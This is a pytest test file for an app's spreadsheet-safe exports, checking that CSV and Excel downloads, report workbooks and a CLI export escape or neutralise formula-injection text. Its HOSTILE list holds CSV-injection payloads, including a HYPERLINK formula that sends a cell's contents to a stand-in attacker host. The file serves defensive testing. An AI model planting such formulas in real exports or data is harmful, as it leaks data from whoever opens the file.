"""Spreadsheet-safe exports: no text cell can run as a formula (CSV escaped, workbook cells text), list
columns written as joined text, everything else as it is; over every export path of the app, the
reports and the CLI."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from polars.testing import assert_frame_equal
from typer.testing import CliRunner

from core.exports import FORMULA_START, csv_bytes, formula_safe, spreadsheet_frame, workbook_options
from reports.model import Report, Section, Table


def test_cells_that_start_a_formula_are_escaped_with_a_quote() -> None:
    frame = pl.DataFrame(
        {
            "name": ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "a=b", "ok", None],
            "tier": pl.Series(["=1", "nano", "nano", "nano", "nano", "nano", "nano", "nano", "nano"]).cast(
                pl.Categorical
            ),
        }
    )
    result = formula_safe(frame)
    expected = pl.DataFrame(
        {
            "name": [
                '\'=HYPERLINK("http://x")',
                "'+1",
                "'-2",
                "'@SUM(A1)",
                "'\tx",
                "'\rx",
                "a=b",
                "ok",
                None,
            ],
            "tier": ["'=1", "nano", "nano", "nano", "nano", "nano", "nano", "nano", "nano"],
        }
    )
    assert_frame_equal(result, expected)


def test_numbers_dates_and_booleans_are_written_as_they_are() -> None:
    frame = pl.DataFrame(
        {"value": [-1.5, 2.0], "day": [date(2026, 1, 5), date(2026, 1, 6)], "flag": [True, False]}
    )
    text = csv_bytes(frame).decode("utf-8")
    assert text.splitlines() == [
        '"value","day","flag"',
        '-1.5,"2026-01-05","true"',
        '2.0,"2026-01-06","false"',
    ]
    back = pl.read_csv(io.BytesIO(csv_bytes(frame)), try_parse_dates=True)
    assert_frame_equal(back, frame)


def test_an_empty_frame_is_a_header() -> None:
    frame = pl.DataFrame(schema={"name": pl.String, "value": pl.Float64})
    assert csv_bytes(frame).decode("utf-8") == '"name","value"\n'


# ------------------------------------------------------------------------------------------------
# Every export path: nothing a spreadsheet opens can run as a formula


HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "http://evil.example/",
]
"""Text a spreadsheet would run (OWASP's CSV injection), and a link XlsxWriter would turn into one."""


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "handle": HOSTILE,
            "reasons": [[text, "plain"] for text in HOSTILE],  # a list column: joined text
            "gmv": [-1.5] * len(HOSTILE),
        }
    )


def _assert_csv_escaped(data: bytes, columns: tuple[str, ...]) -> None:
    """No cell of ``columns`` starts a formula; the first column holds `HOSTILE`, quote-prefixed."""
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for row in rows:
        for column in columns:
            assert not re.match(FORMULA_START, row[column]), (column, row[column])
    escaped = {"'" + text if re.match(FORMULA_START, text) else text for text in HOSTILE}
    assert {row[columns[0]] for row in rows} == escaped


def _assert_no_formula(data: bytes) -> list[str]:
    """Every cell of every sheet (read as Excel would): none is a formula or a link; the text cells."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):  # a carriage return is stored escaped, as Excel does
                    texts.append(cell.value.replace("_x000D_", "\r"))
    return texts


def _hostile_report() -> Report:
    frame = _hostile_frame().drop("reasons")
    return Report(
        kind="weekly",
        title=HOSTILE[0],
        period="+1+1",
        filters={"region": "@SUM(A1)"},
        build_id="b1",
        generated_at=datetime(2026, 1, 5, tzinfo=UTC),
        sections=(
            Section(
                key="notes",
                title="-2+3",
                summary=tuple(HOSTILE),
                tables=(Table(key="t", title="=1+1", frame=frame, formats={"gmv": "gmv"}),),
                text=HOSTILE[0],
            ),
        ),
        slug="weekly",
    )


def _cli_uplift_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> bytes:
    """``liftboard export uplift --out FILE.csv`` over a build whose predictions hold hostile text."""
    from datastore import snapshots
    from liftboard.cli import app

    n = len(HOSTILE)
    predictions = pl.LazyFrame(
        {
            "entity_kind": ["creator"] * n,
            "entity_id": HOSTILE,
            "strategy": HOSTILE,
            "eligible": [True] * n,
            "expected_uplift": [-1.0] * n,
            "uplift_low": [-2.0] * n,
            "uplift_high": [0.0] * n,
            "established": [False] * n,
            "learner": HOSTILE,
            "run_id": ["-run"] * n,
        }
    )
    monkeypatch.setattr(
        snapshots, "latest_manifest", lambda *_a, **_k: {"build_id": "b1", "as_of": "2026-01-05"}
    )
    monkeypatch.setattr(snapshots, "load_snapshot", lambda *_a, **_k: predictions)
    out = tmp_path / "uplift.csv"
    done = CliRunner().invoke(app, ["export", "uplift", "--out", str(out)], env={"COLUMNS": "200"})
    assert done.exit_code == 0, done.output
    return out.read_bytes()


def test_no_export_path_writes_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The app's CSV and Excel downloads, the reports' workbooks and the CLI's CSV export, fed text that a
    spreadsheet would run: CSV cells are prefixed with a quote, workbook cells are text (no formula, no
    link), list columns are joined text."""
    from reports.render_xlsx import render_xlsx
    from webapp import data as app_data

    frame = _hostile_frame()
    # the app's CSV download (every table with an export: `webapp.ui.downloads`)
    _assert_csv_escaped(app_data.csv_bytes(frame), ("handle", "reasons"))
    # the app's Excel download: the text as it was, in text cells
    texts = _assert_no_formula(app_data.xlsx_bytes({"Creators": frame, "Again": frame}))
    assert set(HOSTILE) <= set(texts)
    assert f"{HOSTILE[0]}; plain" in texts
    # the reports' workbooks (weekly review, merchant report: CLI and app)
    texts = _assert_no_formula(render_xlsx(_hostile_report()))
    assert set(HOSTILE) <= set(texts)
    # the CLI's CSV export
    _assert_csv_escaped(
        _cli_uplift_csv(tmp_path, monkeypatch), ("entity_id", "strategy", "learner", "run_id")
    )


def test_list_columns_are_joined_text() -> None:
    frame = pl.DataFrame(
        {
            "reasons": [["same category", "bought together"], [], None],
            "scores": pl.Series([[1, 2], [3, 4], [5, 6]], dtype=pl.Array(pl.Int64, 2)),
            "nested": [[["a"], ["b", "c"]], None, []],
            "detail": [{"k": 1}, None, {"k": 2}],
        }
    )
    result = spreadsheet_frame(frame)
    expected = pl.DataFrame(
        {
            "reasons": ["same category; bought together", "", None],
            "scores": ["1; 2", "3; 4", "5; 6"],
            "nested": ["a; b, c", None, ""],
            "detail": ['{"k":1}', None, '{"k":2}'],
        }
    )
    assert_frame_equal(result, expected)
    back = pl.read_csv(io.BytesIO(csv_bytes(frame)))
    assert back["reasons"].to_list()[0] == "same category; bought together"


def test_no_caller_can_turn_formulas_back_on() -> None:
    options = workbook_options(in_memory=True, strings_to_formulas=True, strings_to_urls=True)
    assert options == {
        "in_memory": True,
        "strings_to_formulas": False,
        "strings_to_urls": False,
        "strings_to_numbers": False,
    }
